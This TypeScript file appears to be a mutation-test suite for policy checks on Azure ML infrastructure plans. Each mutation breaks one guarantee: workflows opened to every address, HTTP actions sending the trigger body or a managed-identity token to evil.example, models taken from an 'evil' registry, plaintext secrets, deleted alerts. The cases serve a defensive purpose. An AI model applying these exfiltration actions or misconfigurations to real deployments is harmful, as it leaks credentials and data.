import {
  CHURN,
  CLUSTER,
  DEPLOYMENT,
  edit,
  ENDPOINT,
  find,
  flip,
  type Mutation,
  remove,
  SCHEDULE,
  set,
  WORKSPACE,
} from "./basic";

const WORKFLOW = "azapi_resource.DriftRetraining_Workflow_";
const ROLLBACK = "azapi_resource.Promotion_Rollback_Workflow_";
const INSTANCE = "azapi_resource.Instance-";
const SETTLE = "azapi_resource_action.Traffic_Settle_";
const TRAFFIC = "azapi_update_resource.Traffic_";
const computes = "Microsoft.MachineLearningServices/workspaces/computes";

type Tree = Record<string, unknown>;
const definition = (what: string, change: (written: { triggers: Tree; actions: Tree }) => void): Mutation =>
  edit(`workflow: ${what}`, (stacks) => {
    const { properties } = find(stacks, CHURN, WORKFLOW).values["body"] as {
      properties: { definition: { triggers: Tree; actions: Tree } };
    };
    change(properties.definition);
  });
const http = (inputs: Tree) => ({ type: "Http", runAfter: {}, inputs });
const own = { type: "ManagedServiceIdentity", audience: "https://management.azure.com/" };
const access = (what: string, accessControl: Tree): Mutation =>
  edit(`workflow: ${what}`, set(CHURN, WORKFLOW, "body.properties.accessControl", accessControl));
const instance = (path: string, value: unknown): Mutation => ({
  ...flip("dev", INSTANCE, path, value),
  attribute: [computes, path],
});
const model = (text: string): Mutation => edit(`serves ${text}`, set(CHURN, DEPLOYMENT, "body.properties.model", text));
const secret = (what: string, stack: string, address: string, path: string, value: unknown): Mutation =>
  edit(`a secret in ${what}`, set(stack, address, path, value));

export const servingMutations: Readonly<Record<string, readonly Mutation[]>> = {
  "workflow-enabled": [
    {
      ...flip(CHURN, WORKFLOW, "properties.state", "Disabled"),
      attribute: ["Microsoft.Logic/workflows", "properties.state"] as const,
    },
    // Its role is of no use to a workflow that writes nothing.
    ...[
      definition("does nothing", ({ actions }) => {
        for (const name of Object.keys(actions)) Reflect.deleteProperty(actions, name);
      }),
      edit("the rollback reads, and writes nothing", (stacks) => {
        const { values } = find(stacks, CHURN, ROLLBACK);
        const { properties } = values["body"] as { properties: { definition: { actions: Tree } } };
        const text = JSON.stringify(properties.definition.actions);
        properties.definition.actions = JSON.parse(text.replaceAll(/"(PUT|PATCH)"/g, '"GET"')) as Tree;
      }),
    ].map((one) => ({ ...one, also: ["role-fits-identity"] })),
  ],
  "workflow-not-open": [
    definition("starts by the clock", ({ triggers }) => {
      triggers["Timer"] = { type: "Recurrence", recurrence: { frequency: "Minute", interval: 1 } };
    }),
    definition("starts by GET", ({ triggers }) => {
      (triggers["Request"] as { inputs: Tree }).inputs["method"] = "GET";
    }),
    definition("starts by nothing", ({ triggers }) => {
      Reflect.deleteProperty(triggers, "Request");
    }),
    access("open to every address", { triggers: { allowedCallerIpAddresses: [{ addressRange: "0.0.0.0/0" }] } }),
    access("open to both halves", {
      triggers: { allowedCallerIpAddresses: [{ addressRange: "0.0.0.0/1" }, { addressRange: "128.0.0.0/1" }] },
    }),
    access("without a signature", { triggers: { sasAuthenticationPolicy: { state: "Disabled" } } }),
    access("its runs for everyone", {
      contents: { allowedCallerIpAddresses: [{ addressRange: "0.0.0.0-255.255.255.255" }] },
    }),
  ],
  "workflow-calls-azure-only": [
    definition("calls a stranger", ({ actions }) => {
      actions["Out"] = http({ method: "POST", uri: "https://evil.example/take", body: "@triggerBody()" });
    }),
    definition("gives a stranger its token", ({ actions }) => {
      actions["Out"] = http({ method: "POST", uri: "https://evil.example/take", authentication: own });
    }),
    definition("asks for the vault's token", ({ actions }) => {
      actions["Out"] = http({
        method: "GET",
        uri: "https://management.azure.com/x",
        authentication: { ...own, audience: "https://vault.azure.net" },
      });
    }),
    definition("signs in with a password", ({ actions }) => {
      actions["Out"] = http({
        method: "GET",
        uri: "https://management.azure.com/x",
        authentication: { type: "Basic", username: "a" },
      });
    }),
    definition("runs code", ({ actions }) => {
      actions["Out"] = { type: "JavaScriptCode", runAfter: {}, inputs: { code: "1" } };
    }),
    definition("uses a connector", ({ actions }) => {
      actions["Out"] = { type: "ApiConnection", runAfter: {}, inputs: {} };
    }),
    definition("calls what it is told to", ({ actions }) => {
      actions["Out"] = http({ method: "GET", uri: "@triggerBody()['uri']", authentication: own });
    }),
    definition("calls a stranger deep inside", ({ actions }) => {
      (actions["Act"] as { actions: Tree }).actions["Out"] = http({ method: "POST", uri: "https://evil.example" });
    }),
  ],
  "workspace-own-parts": [
    edit("no insights", set("prod", WORKSPACE, "body.properties.applicationInsights", undefined)),
    edit(
      "storage from elsewhere",
      set(
        "prod",
        WORKSPACE,
        "body.properties.storageAccount",
        "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/rg-pfs-prod-ml/providers/Microsoft.Storage/storageAccounts/other",
      ),
    ),
    edit(
      "a vault from elsewhere",
      set(
        "prod",
        WORKSPACE,
        "body.properties.keyVault",
        "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/rg-pfs-prod-ml/providers/Microsoft.KeyVault/vaults/other",
      ),
    ),
    edit(
      "a registry from elsewhere",
      set(
        "prod",
        WORKSPACE,
        "body.properties.containerRegistry",
        "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/rg-pfs-prod-ml/providers/Microsoft.ContainerRegistry/registries/other",
      ),
    ),
    edit(
      "an identity from elsewhere",
      set(
        "prod",
        WORKSPACE,
        "body.properties.primaryUserAssignedIdentity",
        "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/rg-pfs-prod-ml/providers/Microsoft.ManagedIdentity/userAssignedIdentities/other",
      ),
    ),
  ],
  "workspace-network-provisioned": [
    flip("prod", WORKSPACE, "properties.provisionNetworkNow", false),
    flip("prod", WORKSPACE, "properties.v1LegacyMode", true),
  ],
  "workspace-private-endpoint": [
    edit("the workspace's endpoint leads to the vault", (stacks) => {
      const { name } = find(stacks, "prod", "azapi_resource.Vault_");
      set(
        "prod",
        "azurerm_private_endpoint.PrivateAccess_workspace_",
        "private_service_connection.private_connection_resource_id",
        `\${azapi_resource.${name}.id}`,
      )(stacks);
    }),
  ],
  "workspace-identity-datastores": [
    edit("datastores by nothing", set("prod", WORKSPACE, "body.properties.systemDatastoresAuthMode", undefined)),
  ],
  "compute-personal": [
    instance("properties.properties.applicationSharingPolicy", "Shared"),
    instance("properties.properties.computeInstanceAuthorizationType", "none"),
    instance("properties.properties.personalComputeInstanceSettings.assignedUser.objectId", undefined),
  ],
  "compute-own-identity": [
    flip("prod", CLUSTER, "identity.type", "SystemAssigned"),
    flip("prod", CLUSTER, "identity.identity_ids", []),
  ],
  "compute-idle-short": [
    edit(
      "an instance idles for a year",
      set("dev", INSTANCE, "body.properties.properties.idleTimeBeforeShutdown", "P365D"),
    ),
    edit(
      "nodes idle for a month",
      set("prod", CLUSTER, "body.properties.properties.scaleSettings.nodeIdleTimeBeforeScaleDown", "P30D"),
    ),
  ],
  "compute-no-local-auth": [
    edit("an instance takes keys", set("dev", INSTANCE, "body.properties.disableLocalAuth", false)),
  ],
  "compute-no-public-ip": [
    edit("an instance with an address", set("dev", INSTANCE, "body.properties.properties.enableNodePublicIp", true)),
  ],
  "deployment-traced": [
    flip(CHURN, DEPLOYMENT, "properties.appInsightsEnabled", false),
    edit("traces of nothing", set(CHURN, DEPLOYMENT, "body.properties.appInsightsEnabled", undefined)),
  ],
  "deployment-data-collection": [
    edit(
      "a sample of a thousandth",
      set(CHURN, DEPLOYMENT, "body.properties.dataCollector.collections.model_inputs.samplingRate", 0.001),
    ),
    edit(
      "inputs are not kept",
      set(CHURN, DEPLOYMENT, "body.properties.dataCollector.collections.model_inputs", undefined),
    ),
  ],
  "endpoint-settled-alike": [
    edit("draining at once", set(CHURN, "azapi_resource_action.Traffic_Drain_", "when", undefined)),
    edit("moving all traffic away", set(CHURN, TRAFFIC, "body.properties.traffic", {})),
    edit("settling opens the endpoint", set(CHURN, SETTLE, "body.properties.publicNetworkAccess", "Enabled")),
    edit("settling takes keys", set(CHURN, SETTLE, "body.properties.authMode", "Key")),
    edit("moving traffic opens the endpoint", set(CHURN, TRAFFIC, "body.properties.publicNetworkAccess", "Enabled")),
    edit(
      "draining takes keys",
      set(CHURN, "azapi_resource_action.Traffic_Drain_", "body.properties.authMode", "AMLToken"),
    ),
    edit(
      "traffic of another endpoint",
      set(
        CHURN,
        TRAFFIC,
        "resource_id",
        "/subscriptions/2e704d9c-3186-4c58-9e3f-9d0214c6f303/resourceGroups/rg-pfs-prod-ml/providers/Microsoft.MachineLearningServices/workspaces/w/onlineEndpoints/other",
      ),
    ),
  ].map((one) => ({ ...one, also: ["endpoint-no-public-network", "endpoint-entra-auth"] })),
  "endpoint-entra-auth": [edit("Azure ML's own tokens", set(CHURN, ENDPOINT, "body.properties.authMode", "AMLToken"))],
  "assets-from-own-registry": [
    model("azureml://registries/evil/models/customer-churn/versions/12"),
    model("azureml://registries/mlr-pfs/models/customer-churn/labels/latest"),
    model("azureml://registries/mlr-pfs/models/customer-churn/versions/latest"),
    edit(
      "trains with a stranger's component",
      set(
        CHURN,
        SCHEDULE,
        "body.properties.action.jobDefinition.componentId",
        "azureml://registries/evil/components/x/versions/1",
      ),
    ),
    edit(
      "retrains with whatever is latest",
      set(
        CHURN,
        WORKFLOW,
        "body.properties.parameters.job.value.componentId",
        "azureml://registries/mlr-pfs/components/x/labels/default",
      ),
    ),
  ],
  "no-plain-secret": [
    secret("a tag", "prod", WORKSPACE, "tags.note", "AccountKey=abcdefgh12345678"),
    secret("a tag by its name", "prod", "azurerm_storage_account.Storage_", "tags.api_token", "abcd"),
    secret("an environment variable", CHURN, DEPLOYMENT, "body.properties.environmentVariables", {
      DB_PASSWORD: "hunter2",
    }),
    secret("an environment variable's value", CHURN, DEPLOYMENT, "body.properties.environmentVariables", {
      PLACE: "https://x.example/?sig=abcdefgh1234",
    }),
    secret("a job's input", CHURN, SCHEDULE, "body.properties.action.jobDefinition.inputs.secret", {
      jobInputType: "literal",
      value: "ghp_abcdefghijklmnopqrstuvwxyz",
    }),
    secret("a description", CHURN, ENDPOINT, "body.properties.description", "-----BEGIN RSA PRIVATE KEY-----"),
    secret(
      "a parameter of a workflow",
      CHURN,
      WORKFLOW,
      "body.properties.parameters.job.value.key",
      "SharedAccessKey=abcdefgh",
    ),
    secret("a job's variable", CHURN, SCHEDULE, "body.properties.action.jobDefinition.settings.environmentVariables", {
      API_KEY: "x",
    }),
  ],
  "monitor-alert-path": [
    edit("nobody hears of the monitor", (stacks) => {
      set(
        CHURN,
        "azapi_resource.Monitors_",
        "body.properties.action.monitorDefinition.alertNotificationSettings",
        undefined,
      )(stacks);
      remove(
        CHURN,
        "azurerm_monitor_scheduled_query_rules_alert_v2.Alerts_Monitors_drift_customer-churn_model-12_monitor-failed_",
        "azurerm_monitor_scheduled_query_rules_alert_v2.Alerts_Monitors_drift_customer-churn_model-12_monitor-silent_",
      )(stacks);
    }),
  ].map((one) => ({ ...one, also: ["alerts-complete"] })),
};
